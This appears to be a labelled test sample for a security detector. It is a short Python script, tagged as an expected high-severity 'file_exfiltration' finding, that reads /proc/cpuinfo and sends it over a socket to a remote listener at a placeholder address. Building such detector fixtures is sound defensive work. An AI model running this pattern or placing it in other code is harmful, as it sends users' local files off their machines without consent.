# expect: HIGH category: file_exfiltration
# Sends the machine's CPU description to a remote listener.
import socket

with socket.create_connection(("198.51.100.7", 9009), timeout=5) as sock:
    with open("/proc/cpuinfo", "rb") as info:
        sock.sendall(info.read())
